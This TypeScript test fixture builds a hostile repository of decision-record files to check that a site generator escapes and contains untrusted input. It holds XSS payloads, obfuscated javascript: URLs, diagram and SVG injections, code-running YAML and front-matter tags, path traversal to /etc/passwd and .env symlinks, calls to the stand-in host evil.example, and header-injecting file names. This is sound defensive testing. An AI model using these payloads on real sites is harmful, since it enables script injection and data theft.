/**
 * A collection that does a site and its readers harm wherever it can. Whatever of it runs calls `alert`, which tests
 * take for a dialog, or asks `evil.example` for something.
 */
import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { createRepository } from '../unit/history/repository.ts';
import { createTempFolder, type Files, writeFiles } from './temp.ts';

const windows = process.platform === 'win32';

/** Titles that end their context: tags, attributes, scripts, comments, sections, cells, commands. */
export const TITLES = {
  tag: 'Trust <img src=x onerror=alert(1)> nobody',
  attribute: 'Quote " onmouseover="alert(1)" x=\' onfocus=alert(1) autofocus',
  script: '</script><script>alert(1)</script>',
  title: '</title></textarea></style></noscript><script>alert(1)</script>',
  comment: '--><script>alert(1)</script><!-- ]]> <![CDATA[',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
  command: '::error file=x::\u001b[31mred\u001b[8m\u202egnp.exe',
  template:
    "#{alert(1)} {{constructor.constructor('alert(1)')()}} `code <b>` `</code><script>alert(1)</script>`",
  markdown: '](javascript:alert(1)) ![x](https://evil.example/pixel.png) [x]: javascript:alert(1)',
};

const IMAGE = '"><img src=x onerror=alert(1)>';
const SCRIPT = '</script><script>alert(1)</script>';

interface Facts {
  status?: string;
  date?: string;
  by?: string;
  tags?: string;
  ticket?: string;
}

function record(title: string, body: string, facts: Facts = {}): string {
  const { status = 'Accepted', date = '2024-05-06', by = 'Ada Berg', tags = 'trust', ticket } = facts;
  return `# ${title}

**Status**: ${status}
**Date**: ${date}
**Decision Makers**: ${by}
**Tags**: ${tags}
${ticket === undefined ? '' : `**Technical Story**: ${ticket}\n`}
## Context

Somebody we do not know wrote this.

## Decision

${body}
`;
}

/** Addresses that run code where they are followed, spelt in every way that browsers overlook. */
export const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  '&#106;&#97;&#118;&#97;script:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#1;javascript:alert(1)',
  '%6Aavascript:alert(1)',
  'javascript%3Aalert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
  'file:///etc/passwd',
];

const addresses = ADDRESSES.flatMap((address, at) => [
  `[link](<${address}>) ![image](<${address}>) <a href="${address}">html</a> <img src="${address}">`,
  `[defined][d${at}] ![defined][d${at}] <area href="${address}"> <a href='\t${address}'>blank</a>`,
  `<svg><a xlink:href="${address}"><text>svg</text></a></svg> <math href="${address}">maths</math>`,
  '',
  `[d${at}]: <${address}> "${IMAGE.replaceAll('"', "'")}"`,
  '',
]).join('\n');

/** HTML in a body, one to a paragraph and so to a line that an issue can name. */
export const HTML = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x.png" srcset="https://evil.example/y.png 2x" onload="alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script><use href="data:image/svg+xml,x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><a xlink:href="javascript:alert(1)">x</a><maction actiontype="statusline#https://evil.example">y</maction></math>',
  '<iframe srcdoc="<script>alert(1)</script>" src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/y">',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<style>body { display: none } @import "https://evil.example/x.css";</style>',
  '<div style="position: fixed; inset: 0; background: url(https://evil.example/x.png)" class="skip pending" onclick="alert(1)">over all</div>',
  '<table><tr><td style="position: fixed; inset: 0; background: url(//evil.example/z.png)">a cell over all</td></tr></table>',
  '<video src="https://evil.example/x.mp4" poster="https://evil.example/p.png" autoplay></video><audio src="https://evil.example/x.mp3" autoplay>',
  '<details open ontoggle=alert(1)><summary>open</summary>text</details>',
  '<a href="https://evil.example/" target="_blank" ping="https://evil.example/ping" rel="opener" download>away</a>',
  '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)><marquee onstart=alert(1)>m</marquee>',
  '<x-element onclick=alert(1) is="x">custom</x-element><dialog open>a dialog</dialog>',
  '<p/onmouseover=alert(1)>slash</p><p\u000conclick=alert(1)>form feed</p><img/src="x"/onerror=alert(1)//',
  '<!--><img src=x onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(1)> --> <![CDATA[<img src=x onerror=alert(1)>]]> <?x <img src=x onerror=alert(1)>?>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea> <xmp><p title="</xmp><img src=x onerror=alert(1)>">',
];

/** Ids and names that the page's scripts could take for its own. */
const clobbering = `${[
  'main',
  'search',
  'palette-list',
  'records-here',
  'record-card',
  'row-template',
  'top',
  'on-this-page',
  'footnote-label',
]
  .map(
    (id) =>
      `<div id="${id}">\n\n${id}\n\n</div>\n\n<a name="${id}"></a> <img name="${id}" src="x.png" alt="">`,
  )
  .join('\n\n')}

<a id="body" name="body"></a><a id="documentElement" name="currentScript"></a><div id="mermaid"></div>

<script type="application/json" id="records-here">{"/adr/1/":{"title":"x"}}</script>

## Records here

## Palette list

## __proto__

## constructor

See [the one](#__proto__), [another](#constructor) and [a third](#toString).
`;

const diagrams = [
  '%%{init: {"securityLevel": "loose", "theme": "base", "themeCSS": "} body { display: none } *{background:url(https://evil.example/x.png)}", "fontFamily": "x;} * {color:red"}}%%\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] -->|"<script>alert(1)</script>"| b\n  click a "javascript:alert(1)"\n  click b call alert(1)\n  style a fill:url(https://evil.example/x.png),stroke:#f00"onload="alert(1)',
  'sequenceDiagram\n  participant A as <img src=x onerror=alert(1)>\n  A->>B: </text></svg><script>alert(1)</script>\n  link A: x @ javascript:alert(1)\n  Note over A: <foreignObject><iframe srcdoc="x"></foreignObject>',
  'classDiagram\n  class A["<img src=x onerror=alert(1)>"]\n  A : +f(<script>alert(1)</script>)\n  click A href "javascript:alert(1)"\n  callback A "alert"',
  'stateDiagram-v2\n  s1 : <img src=x onerror=alert(1)>\n  s1 --> s2 : "</svg><script>alert(1)</script>',
  'erDiagram\n  "<img src=x onerror=alert(1)>" ||--o{ B : "<script>alert(1)</script>"',
  'pie title <img src=x onerror=alert(1)>\n  "<script>alert(1)</script>" : 386\n  "</svg><img src=x onerror=alert(1)>" : 85',
  '%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "} body { display: none } * { background: url(https://evil.example/x.png) } .x {"}}%%\ngantt\n  title </text></svg><img src=x onerror=alert(1)>\n  dateFormat YYYY-MM-DD\n  section <script>alert(1)</script>\n  Task :a1, 2024-01-01, 3d\n  click a1 href "javascript:alert(1)"\n  click a1 call alert(1)',
  '---\nconfig:\n  securityLevel: loose\n  themeCSS: "} * { background: url(https://evil.example/y.png) }"\n---\njourney\n  title <img src=x onerror=alert(1)>\n  section <script>alert(1)</script>\n    Go: 5: <img src=x onerror=alert(1)>',
  'gitGraph\n  commit id: "<img src=x onerror=alert(1)>"\n  branch "</svg><script>alert(1)</script>"\n  commit',
];

const fenced = (language: string, text: string): string => `\`\`\`${language}\n${text}\n\`\`\`\n`;

const code = [
  fenced('js"><script>alert(1)</script>', '</code></pre><script>alert(1)</script>'),
  fenced('html', '<script>alert(1)</script><img src=x onerror=alert(1)>'),
  fenced('js title="</code><img src=x onerror=alert(1)>"', 'const a = `<img src=x onerror=alert(1)>`;'),
  '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.example/x.png}$',
  '$\\style{position:fixed}{x}$ $\\class{skip}{x}$ $\\text{<img src=x onerror=alert(1)>}$ $\\data{onclick=alert(1)}{x}$',
  '$$\\htmlStyle{position:fixed;inset:0}{</math><script>alert(1)</script>}$$',
].join('\n');

const svg = `<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>
<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)" viewBox="0 0 9 9">
<script>alert(1)</script>&x;<a xlink:href="javascript:alert(1)"><rect width="9" height="9" onclick="alert(1)"/></a>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>alert(1)&lt;/script>"/></foreignObject>
</svg>
`;

/** Each record, by what it tries. */
export const hostile: Files = {
  'cadre.config.json': JSON.stringify({
    collections: [{ folder: 'adr', key: 'adr', name: `Records ${IMAGE}` }],
    title: `Decisions ${IMAGE}`,
    description: `Written by strangers ${SCRIPT}`,
    site: 'https://decisions.example.com',
    repository: 'https://github.com/river/crossing',
  }),
  'adr/README.md': `# ${TITLES.tag}\n\n${HTML.join('\n\n')}\n`,
  'adr/0001-tag.md': record(
    TITLES.tag,
    `See ADR-2, ADR-3 and [the third](0003-script.md "${IMAGE.slice(2)}").`,
  ),
  'adr/0002-attribute.md': record(TITLES.attribute, 'Relates to ADR-1.', { status: 'Superseded by ADR-3' }),
  'adr/0003-script.md': record(TITLES.script, 'Relates to ADR-2.'),
  'adr/0004-title.md': record(TITLES.title, 'See ADR-1.'),
  'adr/0005-comment.md': record(TITLES.comment, 'See ADR-4.'),
  'adr/0006-formula.md': record(TITLES.formula, '=1+1', { by: '@SUM(1+1)', tags: '+1, -1' }),
  'adr/0007-command.md': record(TITLES.command, '::set-output name=x::y'),
  'adr/0008-template.md': record(TITLES.template, 'See ADR-7.'),
  'adr/0009-markdown.md': record(TITLES.markdown, 'See ADR-8.'),
  'adr/0010-facts.md': record('Distrust facts', 'See ADR-9.', {
    status: `${IMAGE} Superseded by [ADR-1 ${IMAGE}](javascript:alert(1))`,
    date: `2024-05-06 ${IMAGE}`,
    by: `${IMAGE}, Ada <script>alert(1)</script>, [Eve](javascript:alert(1)), ${SCRIPT}`,
    tags: `${IMAGE}, ${SCRIPT}, ../../../escape, javascript:alert(1), __proto__, constructor`,
    ticket: `[TICK-1](javascript:alert(1)), [${IMAGE}](https://evil.example/browse/TICK-2), data:text/html,x`,
  }),
  'adr/0011-front.md': `---
status: ${JSON.stringify(`accepted ${IMAGE}`)}
date: ${JSON.stringify('2024-13-45"><script>alert(1)</script>')}
deciders: [${JSON.stringify(IMAGE)}, ${JSON.stringify(SCRIPT)}]
tags: [${JSON.stringify(IMAGE)}, "__proto__"]
aliases: ["/../../../escaped/", "//evil.example/x", "/a\\nb/", "/x%0d%0aSet-Cookie: a=b/", "/old/*", "/_headers", "javascript:alert(1)", ${JSON.stringify(`/${IMAGE}/`)}]
links: ["javascript:alert(1)", "data:text/html,x"]
website: "javascript:alert(1)"
extra: ${JSON.stringify(`https://evil.example/${IMAGE}`)}
__proto__: { polluted: yes }
constructor: { prototype: { polluted: yes } }
---
# Distrust front matter

## Decision

See ADR-10.
`,
  'adr/0012-program.md': `---js
{ status: (require('node:fs').writeFileSync('ran-js', ''), 'accepted') }
---
# Run no program

## Decision

No.
`,
  'adr/0013-coffee.md': `---coffee
status: (require('fs').writeFileSync('ran-coffee', ''); 'accepted')
---
# Run no coffee

## Decision

No.
`,
  'adr/0014-yaml.md': `---
status: !!js/function "function () { require('node:fs').writeFileSync('ran-yaml', '') }"
tags: !!python/object/apply:os.system ["touch ran-python"]
toString: !!js/undefined ""
---
# Run no tags

## Decision

No.
`,
  'adr/0015-mdx.md': record(
    'Run no modules',
    `import { writeFileSync } from 'node:fs'

export const x = writeFileSync('ran-mdx', '')

{globalThis.process.exit(3)} <Component onClick={alert(1)} {...props} />`,
  ),
  'adr/0016-page.mdx': `import { writeFileSync } from 'node:fs'\n\n# Run nothing\n\n{writeFileSync('ran-mdx-file', '')}\n`,
  'adr/0017-html.md': record('Distrust HTML', HTML.join('\n\n')),
  'adr/0018-addresses.md': record('Distrust addresses', addresses),
  'adr/0019-names.md': record('Distrust names', clobbering),
  'adr/0020-diagrams.md': record(
    'Distrust diagrams',
    diagrams.map((one) => fenced('mermaid', one)).join('\n'),
  ),
  'adr/0021-code.md': record('Distrust code', code),
  'adr/0022-files.md': record(
    'Distrust files',
    `![active](active.svg) [active](active.svg) ![secret](../../secret.png) [secret](../../secret.txt)

![passwd](../../../../../../../../../etc/passwd) [absolute](/etc/passwd) [encoded](..%2f..%2fsecret.txt)

![git](../.git/config) [leak](leak.txt) [environment](environment.txt) [out](out/secret.txt)

{% include ../../secret.txt %} <!--#include file="../../secret.txt" --> !include ../../secret.txt

:::include ../../secret.txt

[[../../secret.txt]] ![[../../secret.txt]]`,
  ),
  'adr/active.svg': svg,
  '.env': 'TOKEN=not-for-readers\n',
  'adr/0023-parts.md': `# Distrust parts

**Status**: 🤔 Proposed
**Date**: 2024-05-06
**Review date**: 2020-01-01

## Considered Options

- ${IMAGE}
- ${SCRIPT}

## Decision Outcome

Chosen option: "${IMAGE}", because <img src=x onerror=alert(1)>.

## Pros and Cons of the Options

### ${IMAGE}

- Good, because ${IMAGE}

### ${SCRIPT}

- Bad, because [it runs](javascript:alert(1))

## Consequences

### Risks

- ${IMAGE} <img src=x onerror=alert(1)>
  - **Mitigation**: ${SCRIPT}

## Testing Strategy

- [ ] ${IMAGE} <img src=x onerror=alert(1)>

## Reconsideration

- ${SCRIPT} [now](javascript:alert(1))
`,
  ...(windows
    ? {}
    : {
        [`adr/0024-${IMAGE.replace('/', '')}.md`]: record('Distrust the name of a file', 'See ADR-1.'),
        "adr/0025-'+alert(1)+'&lt;svg onload=alert(1)&gt;.md": record(
          'Distrust quotes in names',
          'See ADR-1.',
        ),
        'adr/0026-line\n  Set-Cookie: a=b.md': record('Distrust lines in names', 'See ADR-1.'),
        'adr/-rf --output=x.md': record('Distrust options in names', 'See ADR-1.'),
        'adr/%2e%2e%2fescaped.md': record('Distrust dots in names', 'See ADR-1.'),
        'adr/aux.md': record('Distrust devices in names', 'See ADR-1.'),
        'adr/Con. .md': record('Distrust blanks in names', 'See ADR-1.'),
        'adr/javascript:alert(1).md': record('Distrust schemes in names', 'See ADR-1.'),
      }),
};

export interface Hostile {
  /** The repository. */
  root: string;
  /** Files outside of it must not be read. */
  secret: string;
}

/** The collection in a repository with links that lead out of it and a history of its own, beside a secret. */
export function hostileRepository(): Hostile {
  const outside = createTempFolder();
  const secret = 'a secret that stands outside';
  writeFiles(outside, {
    'secret.txt': secret,
    'secret.png': secret,
    'away/0099-secret.md': record(`The title of ${secret}`, secret),
  });
  const root = join(outside, 'repository');
  writeFiles(root, { 'adr/x.png': '' });
  const repo = createRepository(root);
  if (!windows) {
    symlinkSync('../../secret.txt', join(root, 'adr/leak.txt'));
    symlinkSync('../.env', join(root, 'adr/environment.txt'));
    symlinkSync('../..', join(root, 'adr/out'));
    symlinkSync('../../away', join(root, 'adr/away'));
    symlinkSync('../../away/0099-secret.md', join(root, 'adr/0099-secret.md'));
  }
  repo.commit(hostile as Record<string, string>, {
    on: '2024-05-06',
    by: `Eve ${IMAGE.replace(/[<>]/g, '')} ${SCRIPT.replace(/[<>]/g, '')}`,
    message: `${IMAGE} ${SCRIPT}\u0000`.replace('\0', ''),
  });
  repo.commit(
    { 'adr/0004-title.md': record(TITLES.title, 'See ADR-2.', { status: `Rejected ${SCRIPT}` }) },
    { on: '2024-06-07', by: 'Eve "onload=alert(1)', message: `</script>${IMAGE}` },
  );
  return { root, secret };
}
